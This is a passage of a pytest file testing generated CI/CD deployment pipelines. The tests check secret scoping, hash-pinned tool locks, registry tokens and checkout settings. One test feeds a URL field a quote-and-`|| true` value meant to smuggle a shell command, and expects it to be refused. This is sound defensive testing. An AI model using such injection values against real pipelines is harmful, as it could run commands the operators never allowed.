    assert write(deployment, remove=True) is None


COMMIT = "0123456789012345678901234567890123456789"
ORIGINS: list[tuple[dict[str, Any], str | None]] = [
    ({}, "dagster-module-builder==1.2.3"),
    (
        {"url": "https://example.org/x.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}},
        f"dagster-module-builder @ git+https://example.org/x.git@{COMMIT}",
    ),
    ({"url": "ssh://git@example.org/x.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, None),
    ({"url": "file:///srv/x.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}, None),
    ({"url": "file:///tmp/x-1.2.3-py3-none-any.whl", "archive_info": {}}, None),
    ({"url": "https://example.org/x.whl", "archive_info": {}}, "dagster-module-builder @ https://example.org/x.whl"),
    ({"url": "file:///nowhere", "dir_info": {"editable": True}}, None),
]


@pytest.mark.parametrize(("origin", "expected"), ORIGINS)
def test_the_tool_is_what_another_machine_can_install(origin: dict[str, Any], expected: str | None) -> None:
    """FAULTS P5: by a local path, by SSH and without a repository there is none, and it is told."""
    installed = from_origin(origin, "1.2.3")
    assert installed.requirement == expected
    assert bool(installed.reason) is (expected is None)


def test_the_tool_of_a_clone_is_a_commit_that_is_pushed_to_https(tmp_path: Path) -> None:
    """FAULTS P5: a clone of a local path, of SSH, without a remote, or with a commit that was not pushed."""
    git(tmp_path, "init", "-q", "--bare", "there.git")
    git(tmp_path, "init", "-q", "here")
    here = tmp_path / "here"
    origin = {"url": f"file://{here}", "dir_info": {"editable": True}}
    git(here, "commit", "-q", "--allow-empty", "-m", "x")
    assert "no remote 'origin'" in from_origin(origin, "1").reason
    git(here, "remote", "add", "origin", str(tmp_path / "there.git"))
    assert "is on no remote" in from_origin(origin, "1").reason
    git(here, "push", "-q", "origin", "HEAD")
    assert "this machine only" in from_origin(origin, "1").reason
    for url, is_fine in [("git@example.org:a/x.git", False), ("https://example.org/a/x.git", True)]:
        git(here, "remote", "set-url", "origin", url)
        commit = git(here, "rev-parse", "HEAD")
        expected = f"dagster-module-builder @ git+{url}@{commit}" if is_fine else None
        assert from_origin(origin, "1").requirement == expected


def test_an_earlier_deployment_with_a_tool_out_of_reach_is_told_and_removable(module: Path) -> None:
    """FAULTS P5: earlier versions wrote such a tool; its runners may have a key, so the pipeline is only told."""
    deployment = made(module, tool="dagster-module-builder @ git+ssh://git@example.org/x@abc")
    assert "cannot install this program" in str(pipeline.problem(deployment))
    assert "cannot install this program" in "\n".join(local_problems_of(deployment))
    assert write(deployment, remove=True) is None


def test_without_a_tool_that_jobs_can_install_nothing_is_made(module: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """FAULTS P5: refused at once, with what to type, and not by the runner after the approval."""
    monkeypatch.setattr(
        "dagster_module_builder.deploy.pipelines.tool.installed_as", lambda: Installed(None, "it is here only")
    )
    answers = {key: value for key, value in ANSWERS.items() if key != "tool"}
    with pytest.raises(RefusedError, match=r"it is here only\. Pass --set tool='dagster-module-builder==VERSION'"):
        configure(module.parent.parent, module, "ci-cd", {**answers, "platform": "github"})
    assert not (module / "deploy").exists()


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_lock_comes_stays_and_goes_with_its_tool(tmp_path: Path, module: Path, platform: str) -> None:
    """FAULTS S16: every job installs from the lock; a person's stays while the tool is the same."""
    deployment = configured(module, platform)
    lock = deployment.folder / "tool.lock"
    assert f"What {TOOL} needs" in lock.read_text().splitlines()[0]
    text = pipeline.find(deployment).path.read_text()
    installs = re.findall(r'--only-binary :all: --require-hashes \\+\n +--requirement "deploy/yoda/tool\.lock"', text)
    assert len(installs) == 3
    own = lock.read_text().splitlines()[0] + "\n# A person's own.\n"
    lock.write_text(own)
    assert pipeline.problem(deployment) is None
    lock.unlink()
    assert "tool.lock is out of date with" in str(pipeline.problem(deployment))
    lock.write_text(own)
    deployment = change_settings(deployment, tool="dagster-module-builder==0.2.0")
    assert run(tmp_path, "deploy.pipeline", "yoda").returncode == 0
    assert "==0.2.0 needs" in lock.read_text()
    assert pipeline.problem(deployment) is None
    told = run(tmp_path, "deploy.pipeline", "yoda", "--remove", "--dry-run").stdout
    assert f"{lock} would be removed" in told
    assert "--hash" not in told
    assert run(tmp_path, "deploy.pipeline", "yoda", "--remove").returncode == 0
    assert not lock.exists()


def test_the_lock_has_what_the_program_needs_with_hashes() -> None:
    """FAULTS S16: every requirement of this program, as constraints.txt has it, and what builds it from Git."""
    text = lock_of(TOOL).decode()
    entries = dict(re.findall(r"^([a-z0-9-]+)==(\S+)", text, re.MULTILINE))
    project = tomllib.loads((REPOSITORY / "pyproject.toml").read_text())["project"]
    needed = {re.split("[>=<; ]", one)[0] for one in project["dependencies"]} | {"hatchling"}
    assert needed <= set(entries)
    constraints = (REPOSITORY / "constraints.txt").read_text()
    assert [name for name in needed - {"hatchling"} if f"{name}=={entries[name]}" not in constraints] == []
    starts = re.findall(r"^[a-z0-9-]+==.*", text, re.MULTILINE)
    assert all(line.endswith("\\") for line in starts)
    assert len(re.findall(r"^    --hash=sha256:[0-9a-f]{64}", text, re.MULTILINE)) > len(starts)


def test_secrets_are_only_in_the_step_that_needs_them(module: Path) -> None:
    """FAULTS S16: while packages are installed, no step and no process has the key."""
    made(module, "github")
    jobs = yaml.safe_load((module / FILES["github"]).read_text())["jobs"]
    named = [step["name"] for job in jobs.values() for step in job["steps"] if "secrets." in json.dumps(step)]
    assert named == ["Deploy", "Roll back"]
    shutil.rmtree(module / "deploy")
    made(module, "jenkins")
    ((whole,),) = jenkinsfiles.read((module / FILES["jenkins"]).read_text())
    for stage in jenkinsfiles.within(whole, "stages")[1:]:
        *_, install, bound = jenkinsfiles.within(stage, "steps")
        assert "pip" in install["given"][0]
        assert bound["name"] == "withCredentials"
        assert "pip" not in json.dumps(bound)
    shutil.rmtree(module / "deploy")
    made(module, "gitlab")
    jobs = yaml.safe_load((module / FILES["gitlab"]).read_text())
    for name in ("deploy", "rollback"):
        (script,) = jobs[f"sales-report-yoda {name}"]["script"]
        before, _, inside = script.partition("(\nunset DEPLOY_SSH_KEY DEPLOY_ENV\n")
        assert "pip" not in before
        assert "pip" not in inside.partition("\n)\n")[2]


@pytest.mark.parametrize("trigger", ["push", "tag"])
def test_comments_start_for_pull_requests_of_the_repository_into_what_is_deployed(module: Path, trigger: str) -> None:
    """FAULTS S16: while packages are installed, no process has the token that may comment, nor the key."""
    made(module, "gitlab", trigger=trigger, comment=True)
    job = yaml.safe_load((module / FILES["gitlab"]).read_text())["sales-report-yoda comment"]
    (rule,) = job["rules"]
    parts = rule["if"].split(" && ")
    assert '$CI_PIPELINE_SOURCE == "merge_request_event"' in parts
    assert "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_PROJECT_ID" in parts
    assert ('$CI_MERGE_REQUEST_TARGET_BRANCH_NAME == "main"' in parts) is (trigger == "push")
    assert (job["environment"]["action"], job["allow_failure"]) == ("prepare", True)
    before, _, inside = job["script"][0].partition("(\nunset DEPLOY_SSH_KEY DEPLOY_ENV DEPLOY_COMMENT_TOKEN\n")
    assert "pip" not in before
    assert "pip" not in inside.partition("\n)\n")[2]
    shutil.rmtree(module / "deploy")
    made(module, "jenkins", trigger=trigger, comment=True)
    ((whole,),) = jenkinsfiles.read((module / FILES["jenkins"]).read_text())
    assert jenkinsfiles.problems([whole]) == []
    (stage,) = (one for one in jenkinsfiles.within(whole, "stages") if one["given"] == ["Comment"])
    (change,) = (one for one in jenkinsfiles.within(stage, "when") if one["name"] == "changeRequest")
    assert change["given"] == ([{"target": "main"}] if trigger == "push" else [])
    *_, install, bound = jenkinsfiles.within(stage, "steps")
    assert "pip" in install["given"][0]
    assert bound["name"] == "withCredentials"
    assert "pip" not in json.dumps(bound)


def test_what_jenkins_does_not_do_for_previews_is_told(tmp_path: Path, module: Path) -> None:
    git(tmp_path, "init", "-q")
    for platform, told in (("jenkins", True), ("gitlab", False)):
        deployment = declared(module, platform)
        path = deployment.folder / "deployment.yaml"
        path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), "preview": {"host": "small.example"}}))
        done = run(tmp_path, "deploy.pipeline", "yoda")
        cure = "Run 'deploy.preview \"$CHANGE_BRANCH\" --name yoda --comment' in a job of yours"
        assert (done.returncode, cure in " ".join(done.stderr.split())) == (0, told), done
        shutil.rmtree(deployment.folder)


def test_hosts_are_told_who_may_read_and_not_who_may_push(monkeypatch: pytest.MonkeyPatch) -> None:
    """FAULTS S16: pipelines set both, the second perhaps to nothing; a person who sets one login goes on with it."""
    for name in ("USER", "PASSWORD"):
        monkeypatch.setenv(f"DEPLOY_REGISTRY_{name}", "push")
    image = "registry.example/x@sha256:0"
    assert credentials(image) == {"registry": "registry.example", "user": "push", "password": "push"}
    for value, expected in [("", {}), ("pull", {"registry": "registry.example", "user": "pull", "password": "pull"})]:
        for name in ("USER", "PASSWORD"):
            monkeypatch.setenv(f"DEPLOY_REGISTRY_PULL_{name}", value)
        assert credentials(image) == expected


CHECKED_OUT = {
    "github": ("submodules: recursive", "lfs: true"),
    "gitlab": ("GIT_SUBMODULE_STRATEGY: recursive", 'GIT_LFS_SKIP_SMUDGE: "0"'),
    "jenkins": ("submodule(recursiveSubmodules: true, parentCredentials: true)", "lfs()"),
}


@pytest.mark.parametrize("platform", PLATFORMS)
def test_submodules_and_large_files_are_checked_out_where_there_are_any(module: Path, platform: str) -> None:
    """FAULTS P13: found in the repository, said in deployment.yaml, and told where that does not say it."""
    git(module, "init", "-q")
    (module / ".gitmodules").write_text("[submodule]\n")
    (module / ".gitattributes").write_text("*.bin filter=lfs\n")
    deployment = configured(module, platform)
    text = pipeline.find(deployment).path.read_text()
    assert [line for line in CHECKED_OUT[platform] if line not in text] == []
    if platform == "jenkins":
        (words,) = jenkinsfiles.read(text)
        assert jenkinsfiles.problems(words) == []
    assert "does not check out" not in "\n".join(local_problems_of(deployment))
    deployment = change_settings(deployment, submodules=None, lfs=False)
    assert "\n".join(local_problems_of(deployment)).count("does not check out") == 2
    assert [line for line in CHECKED_OUT[platform] if line in (write(deployment) or b"").decode()] == []


@pytest.fixture
def loads(tmp_path: Path) -> Path:
    """Give a module in a monorepo that is no workspace, beside one of another place."""
    git(tmp_path, "init", "-q", "-b", "trunk")
    for name in ("stock", "orders"):
        module = make_module(tmp_path / "made", name)
        place = tmp_path / "etl/loads" / name
        place.parent.mkdir(parents=True, exist_ok=True)
        module.rename(place)
    return tmp_path / "etl/loads"


def test_a_module_outside_of_a_workspace_is_found_from_its_folder_and_by_its_path(tmp_path: Path, loads: Path) -> None:
    """FAULTS P12: ``deploy.pipeline`` and the others in the module's folder, below it, and with ``--module PATH``."""
    orders = declared(loads / "orders", "github")
    declared(loads / "stock", "github")
    empty = tmp_path / "empty"
    empty.mkdir()
    said = run(empty, "deploy.pipeline", "yoda", folder=orders.module / "src")
    assert (said.returncode, "orders: " in said.stdout) == (0, True), said
    assert pipeline.problem(orders) is None
    assert pipeline.find(read_deployment(loads / "stock/deploy/yoda")).path.exists() is False
    said = run(empty, "deploy.pipeline", "yoda", "--module", "../stock", folder=orders.module)
    assert (said.returncode, "stock: " in said.stdout) == (0, True), said
    said = run(empty, "deploy.pipeline", "yoda", folder=tmp_path)
    assert "No deployment 'yoda'" in said.stderr
    for where, more in ((orders.module, []), (tmp_path, ["--module", str(orders.module)])):
        checked = run(empty, "deploy.check", "yoda", *more, folder=where)
        assert f"'deploy.trust yoda --module {orders.module}'" in checked.stdout + checked.stderr


def test_the_environment_shows_where_people_look(module: Path) -> None:
    address = "https://dagster.client.example:8443/sales"
    made(module, "github", url=address)
    jobs = yaml.safe_load((module / FILES["github"]).read_text())["jobs"]
    wanted = {"name": "sales-report-yoda", "url": address}
    assert [job.get("environment") for job in jobs.values()] == [None, wanted, wanted]
    shutil.rmtree(module / "deploy")
    made(module, "gitlab", url=address)
    jobs = yaml.safe_load((module / FILES["gitlab"]).read_text())
    assert jobs[".sales-report-yoda on the hosts"]["environment"] == wanted
    with pytest.raises(BuilderError):
        change_settings(read_deployment(module / "deploy/yoda"), url="https://x.example/' || true")


@pytest.mark.parametrize(("registry", "has_own"), [("ghcr.io", True), ("registry.example:5000", False)])
def test_githubs_own_registry_takes_the_jobs_token(module: Path, registry: str, has_own: bool) -> None:
    """FAULTS S16: no password is kept for it, and only the job that pushes may write."""
    deployment = configured(module, "github", carries_out="docker", registry=registry)
    jobs = yaml.safe_load(pipeline.find(deployment).path.read_text())["jobs"]
    assert [job["permissions"].get("packages") for job in jobs.values()] == [None, "write" if has_own else None, None]
    given = {name: jobs[name]["steps"][-1]["env"] for name in ("deploy", "rollback")}
    token = "${{ github.token }}" if has_own else "${{ secrets.DEPLOY_REGISTRY_PASSWORD }}"
    assert given["deploy"]["DEPLOY_REGISTRY_PASSWORD"] == token
    assert "DEPLOY_REGISTRY_PASSWORD" not in given["rollback"]
    assert "DEPLOY_REGISTRY_PULL_PASSWORD" in given["rollback"]


def with_login(module: Path, kind: str, platform: str = "github", registry: str | None = None) -> Deployment:
    """Make a docker deployment whose job logs in by its own token; nothing is written yet."""
    named, identity = LOGINS[kind]
    deployment = declared(module, platform, carries_out="docker", registry_login={kind: identity})
    path = deployment.folder / "deployment.yaml"
    data = {**yaml.safe_load(path.read_text()), "docker": {"registry": registry or named, "image": "acme/sales"}}
    path.write_text(yaml.safe_dump(data))
    return read_deployment(deployment.folder)


@pytest.mark.parametrize("kind", LOGINS)
def test_a_registry_that_takes_the_jobs_own_token_needs_no_stored_password(module: Path, kind: str) -> None:
    """FAULTS S16: only the job that pushes may ask for such a token, after the packages were installed."""
    text = (write(with_login(module, kind)) or b"").decode()
    jobs = yaml.safe_load(text)["jobs"]
    assert [job["permissions"].get("id-token") for job in jobs.values()] == [None, "write", None]
    assert "secrets.DEPLOY_REGISTRY_PASSWORD" not in text
    steps = jobs["deploy"]["steps"]
    assert [step["name"] for step in steps][2] == "Install dagster-module-builder"
    (token,) = [step for step in steps[3:-1] if step.get("id") == "registry"]
    output = re.search(r"steps\.registry\.outputs\.(\w+)", steps[-1]["env"]["DEPLOY_REGISTRY_PASSWORD"])
    assert output
    assert steps[-1]["env"]["DEPLOY_REGISTRY_USER"]
    assert output[1] == token.get("with", {}).get("token_format", "token")
    assert all(re.search(r"@[0-9a-f]{40}$", step["uses"]) for step in steps if "uses" in step)
    # The deploying step has the token of the registry, and nothing of the cloud.
    assert [name for name in steps[-1]["env"] if not name.startswith("DEPLOY_")] == []


#: What the clouds' own programs are asked; they need an account, which is not to be had here.
ASKED = {
    "aws": "ecr get-login-password --region eu-central-1",
    "azure": "acr login --name acme --expose-token --query accessToken --output tsv --only-show-errors",
}


@pytest.mark.parametrize("kind", ASKED)
@pytest.mark.parametrize("status", [0, 1])
def test_the_token_of_a_registry_is_masked_and_a_failure_ends_the_job(
    module: Path, tmp_path: Path, kind: str, status: int
) -> None:
    """FAULTS S16: the shell lines, with a program in the cloud's place that knows one question."""
    jobs = yaml.safe_load((write(with_login(module, kind)) or b"").decode())["jobs"]
    (step,) = [each for each in jobs["deploy"]["steps"] if each.get("id") == "registry"]
    program = tmp_path / "bin" / {"aws": "aws", "azure": "az"}[kind]
    program.parent.mkdir()
    program.write_text(
        f'#!/bin/sh\ncase "$*" in "{ASKED[kind]}") echo t0ken; exit {status};; account*) ;; *) exit 9;; esac\n'
    )
    program.chmod(0o755)
    output = tmp_path / "output"
    output.touch()
    own = {name: value for name, value in step["env"].items() if "${{" not in value}
    environ = {"PATH": f"{program.parent}:/usr/bin:/bin", "GITHUB_OUTPUT": str(output), **own}
    shell = ["bash", "-e", "-c", step["run"]]
    done = subprocess.run(shell, env=environ, capture_output=True, text=True, check=False)
    assert done.returncode == status
    assert output.read_text() == ("" if status else "token=t0ken\n")
    assert done.stdout == ("" if status else "::add-mask::t0ken\n")


@pytest.mark.parametrize(
    ("kind", "platform", "registry", "said"),
    [
        ("aws", "gitlab", None, "'registry_login' works on GitHub only"),
        ("azure", "jenkins", None, "'registry_login' works on GitHub only"),
        ("aws", "github", "ghcr.io", "ACCOUNT.dkr.ecr.REGION.amazonaws.com, but images go to ghcr.io"),
        ("google", "github", "acme.azurecr.io", "LOCATION-docker.pkg.dev"),
        ("azure", "github", "none", "NAME.azurecr.io, but images go to no registry"),
    ],
)
def test_a_login_that_a_platform_or_registry_does_not_know_is_refused(
    module: Path, kind: str, platform: str, registry: str | None, said: str
) -> None:
    deployment = with_login(module, kind, platform, registry)
    with pytest.raises(RefusedError, match=said):
        write(deployment)
    assert said in str(pipeline.problem(deployment))


@pytest.mark.parametrize(
    "login",
    [{}, {"aws": {}}, {"aws": {"role": "x"}}, {"aws": LOGINS["aws"][1], "azure": LOGINS["azure"][1]}, {"oci": {}}],
)
def test_a_login_without_what_it_needs_is_refused(module: Path, login: dict[str, Any]) -> None:
    with pytest.raises(BuilderError, match="registry_login"):
        declared(module, "github", carries_out="docker", registry_login=login)


def test_a_bumped_login_is_no_edit_and_stays(module: Path) -> None:
    """FAULTS P10: the actions of the clouds are pinned as the others are."""
    deployment = with_login(module, "google")
    write(deployment)
    path = module / FILES["github"]
    bumped = re.sub(r"(google-github-actions/auth@).*", rf"\g<1>{'a' * 40} # v123.0.1", path.read_text())
    path.write_text(bumped)
    assert (write(deployment) or b"").decode() == bumped


def test_a_job_says_what_was_deployed_and_what_changed(tmp_path: Path) -> None:
    page = tmp_path / "summary.md"
    page.write_text("Before.\n")
    outcomes = [
        HostOutcome(
            "a.example", {"sales": "2-b"}, before={"sales": "1-a"}, commits={"sales": ["b leia: <b>x</b>\x1b[0m"]}
        ),
        HostOutcome("b.example", {"sales": "2-b"}, before={"sales": None}),
        HostOutcome("c.example", problems=("lost",), stands=False),
    ]
    write_summary("yoda", outcomes, {"GITHUB_STEP_SUMMARY": str(page)})
    write_summary("yoda", outcomes, {})
    assert page.read_text().splitlines() == [
        "Before.",
        "### yoda",
        "",
        "| host | module | before | now |",
        "|---|---|---|---|",
        "| a.example | sales | 1-a | 2-b |",
        "| b.example | sales | (none) | 2-b |",
        "| c.example | | | not changed |",
        "",
        "Commits of sales:",
        "",
        "    b leia: <b>x</b>[0m",
    ]


def test_a_python_that_is_too_old_is_named(module: Path, tmp_path: Path) -> None:
    """FAULTS P5: on a runner of a team's own. No such Python is to be had here: one of today says that it is older."""
    made(module, "github")
    step = yaml.safe_load((module / FILES["github"]).read_text())["jobs"]["test"]["steps"][2]
    old = tmp_path / "bin/python3"
    old.parent.mkdir()
    set_version = 'code="import sys; sys.version_info = (3, 9, 18); $2"'
    old.write_text(
        f"#!/bin/sh\n[ \"$1\" = --version ] && echo 'Python 3.9.18' && exit\n{set_version}\n"
        f'exec {sys.executable} "$1" "$code"\n'
    )
    old.chmod(0o755)
    environ = {"PATH": f"{old.parent}:/usr/bin:/bin", "RUNNER_TEMP": str(tmp_path), **step["env"]}
    shell = ["bash", "-e", "-c", step["run"]]
    done = subprocess.run(shell, cwd=module, env=environ, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout) == (1, "")
    assert done.stderr == "Python 3.9.18 is too old here: dagster-module-builder needs Python 3.10.\n"
    assert not (tmp_path / "tool").exists()
